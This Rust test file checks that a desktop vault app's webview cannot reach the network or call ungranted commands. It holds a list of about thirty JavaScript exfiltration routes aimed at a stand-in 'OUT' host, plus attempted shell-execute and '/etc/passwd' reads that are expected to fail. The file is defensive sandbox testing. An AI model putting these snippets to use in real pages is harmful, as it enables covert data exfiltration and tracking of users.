//! The window has no way out: whatever runs in it reaches no address, opens no window, and asks the
//! shell for nothing that was not granted.

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use promises::app::App;
use promises::driver::ask;
use serde_json::Value;

use crate::acts;

/// A listener on this machine that keeps who called and what they said.
struct Outside {
    address: String,
    calls: Arc<Mutex<Vec<String>>>,
}

impl Outside {
    fn listen() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port is free");
        let address = format!("127.0.0.1:{}", listener.local_addr().expect("bound").port());
        let calls = Arc::new(Mutex::new(Vec::new()));
        let (kept, heard) = (Arc::clone(&calls), Arc::clone(&calls));
        let datagrams = UdpSocket::bind(&address).expect("the port is free for datagrams too");
        thread::spawn(move || {
            let mut said = [0; 80];
            while let Ok(count) = datagrams.recv(&mut said) {
                heard.lock().expect("nobody panics here").push(format!("{count} bytes by UDP"));
            }
        });
        thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                stream.set_read_timeout(Some(Duration::from_millis(300))).ok();
                let mut said = [0; 80];
                let count = stream.read(&mut said).unwrap_or(0);
                let said = String::from_utf8_lossy(&said[..count]).into_owned();
                kept.lock().expect("nobody panics here").push(said);
            }
        });
        Self { address, calls }
    }

    fn calls(&self) -> Vec<String> {
        self.calls.lock().expect("nobody panics here").clone()
    }
}

/// What a hostile text would try, were it ever to run. OUT is the address.
const WAYS_OUT: &[(&str, &str)] = &[
    ("location", "location.href = 'http://OUT/location'"),
    ("location.assign", "location.assign('http://OUT/assign')"),
    ("location.replace", "location.replace('http://OUT/replace')"),
    ("a data page", "location.href = 'data:text/html,<script src=http://OUT/data></script>'"),
    ("window.open", "window.open('http://OUT/open')"),
    ("window.open without opener", "window.open('http://OUT/open2', '_blank', 'noopener')"),
    (
        "a link",
        "const a = document.createElement('a'); a.href = 'http://OUT/link'; document.body.append(a); a.click(); a.remove()",
    ),
    (
        "a link to a new window",
        "const a = document.createElement('a'); a.href = 'http://OUT/blank'; a.target = '_blank'; document.body.append(a); a.click(); a.remove()",
    ),
    (
        "a download",
        "const a = document.createElement('a'); a.href = 'http://OUT/down'; a.download = 'x'; document.body.append(a); a.click(); a.remove()",
    ),
    (
        "a link with a ping",
        "const a = document.createElement('a'); a.href = '#'; a.ping = 'http://OUT/ping'; document.body.append(a); a.click(); a.remove()",
    ),
    (
        "a refresh",
        "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=http://OUT/refresh'; document.head.append(m)",
    ),
    ("fetch", "fetch('http://OUT/fetch', { mode: 'no-cors' }).catch(() => {})"),
    ("XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', 'http://OUT/xhr'); x.send()"),
    ("a beacon", "navigator.sendBeacon('http://OUT/beacon', 'x')"),
    ("an image", "new Image().src = 'http://OUT/image'"),
    ("a socket", "new WebSocket('ws://OUT/socket')"),
    ("events", "new EventSource('http://OUT/events')"),
    (
        "a script",
        "const s = document.createElement('script'); s.src = 'http://OUT/script'; document.head.append(s)",
    ),
    (
        "an inline script",
        "const s = document.createElement('script'); s.textContent = \"window.escaped = true\"; document.head.append(s)",
    ),
    (
        "a style",
        "const s = document.createElement('style'); s.textContent = \"body{background:url(http://OUT/style)}\"; document.head.append(s)",
    ),
    (
        "an attribute's style",
        "document.body.setAttribute('style', 'background:url(http://OUT/attribute)')",
    ),
    (
        "a stylesheet",
        "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://OUT/sheet'; document.head.append(l)",
    ),
    (
        "a prefetch",
        "for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'icon', 'manifest']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = 'http://OUT/' + rel; document.head.append(l) }",
    ),
    ("a font", "new FontFace('x', 'url(http://OUT/font)').load().catch(() => {})"),
    (
        "a frame",
        "const f = document.createElement('iframe'); f.src = 'http://OUT/frame'; document.body.append(f)",
    ),
    (
        "a frame of its own",
        "const f = document.createElement('iframe'); f.srcdoc = '<img src=http://OUT/srcdoc>'; document.body.append(f)",
    ),
    (
        "an object",
        "const o = document.createElement('object'); o.data = 'http://OUT/object'; document.body.append(o)",
    ),
    (
        "a video",
        "const v = document.createElement('video'); v.src = 'http://OUT/video'; v.load(); document.body.append(v)",
    ),
    ("a worker", "new Worker('http://OUT/worker')"),
    (
        "a form",
        "const f = document.createElement('form'); f.action = 'http://OUT/form'; f.method = 'post'; document.body.append(f); f.submit()",
    ),
    (
        "a form to a new window",
        "const f = document.createElement('form'); f.action = 'http://OUT/form2'; f.target = '_blank'; document.body.append(f); f.requestSubmit()",
    ),
    (
        "markup",
        "const d = document.createElement('div'); d.innerHTML = '<img src=http://OUT/markup onerror=\"window.escaped = true\">'; document.body.append(d)",
    ),
    (
        "a peer",
        "new RTCPeerConnection({ iceServers: [{ urls: 'stun:OUT' }] }).createDataChannel('x')",
    ),
];

/// Milliseconds in which a way out would show.
const PAUSE: u64 = 250;
const NOBODY: [String; 0] = [];

#[tokio::test]
async fn nothing_in_the_window_reaches_an_address() {
    let home = tempfile::tempdir().expect("a temporary folder");
    let outside = Outside::listen();
    let app = App::open(&home.path().join("home")).await;
    acts::create_vault(&app, &home.path().join("mine.tellable"), "tidal copper anthem ladder")
        .await;
    let windows = app.window.windows().await.expect("windows").len();
    let before = ask(&app.window, "return location.origin + location.pathname").await;

    for (name, script) in WAYS_OUT {
        let script = script.replace("OUT", &outside.address);
        let tried = format!("try {{ {script} }} catch (refused) {{}} return true");
        app.window.execute(tried, vec![]).await.unwrap_or_else(|error| panic!("{name}: {error}"));
        tokio::time::sleep(Duration::from_millis(PAUSE)).await;
        assert_eq!(outside.calls(), NOBODY, "{name} got out");
        assert_eq!(
            ask(&app.window, "return location.origin + location.pathname").await,
            before,
            "{name} left the page"
        );
    }
    tokio::time::sleep(Duration::from_millis(1500)).await;
    assert_eq!(outside.calls(), NOBODY, "nothing got out late");
    assert_eq!(app.window.windows().await.expect("windows").len(), windows, "no other window");
    assert_ne!(ask(&app.window, "return window.escaped ?? null").await, Value::Bool(true));

    app.click("new-entry").await;
    app.fill(&app.at("title").await, "Still here").await;
    app.fill(&app.at("body").await, "The window works as before.").await;
    app.shows("Saved").await;
    let found = acts::search(&app, "works before").await;
    assert!(found.starts_with('1'), "{found}");
    app.close().await;
}

/// Commands of plugins and of the core that our capability does not list.
const NOT_GRANTED: &[&str] = &[
    "plugin:fs|read_file",
    "plugin:fs|write_text_file",
    "plugin:dialog|open",
    "plugin:dialog|save",
    "plugin:dialog|message",
    "plugin:shell|execute",
    "plugin:opener|open_url",
    "plugin:http|fetch",
    "plugin:clipboard-manager|read_text",
    "plugin:process|exit",
    "plugin:app|version",
    "plugin:path|resolve_directory",
    "plugin:window|close",
    "plugin:window|create",
    "plugin:webview|create_webview_window",
    "plugin:webview|internal_toggle_devtools",
    "plugin:event|emit",
    "plugin:event|emit_to",
    "plugin:menu|new",
    "plugin:tray|new",
    "plugin:resources|close",
    "plugin:image|from_path",
    "no_such_command",
];

#[tokio::test]
async fn the_page_may_ask_only_for_what_was_granted() {
    let home = tempfile::tempdir().expect("a temporary folder");
    let app = App::open(&home.path().join("home")).await;
    app.at("create-passphrase").await;
    for command in NOT_GRANTED {
        let script = format!(
            "const [done] = arguments; window.__TAURI_INTERNALS__.invoke('{command}', \
             {{ path: '/etc/passwd', url: 'http://127.0.0.1/', options: {{ label: 'x' }}, \
             event: 'shell-event', payload: {{}} }}) \
             .then((given) => done('given: ' + JSON.stringify(given)), () => done('refused'))"
        );
        let answer = app.window.execute_async(script, vec![]).await.expect("an answer");
        assert_eq!(answer.json().as_str(), Some("refused"), "{command}");
    }
    let granted = "const [done] = arguments; window.__TAURI_INTERNALS__.invoke('vault_status') \
                   .then((status) => done(status.state), () => done('refused'))";
    let answer = app.window.execute_async(granted, vec![]).await.expect("an answer");
    assert_eq!(answer.json().as_str(), Some("locked"), "our own commands are answered");
    app.close().await;
}
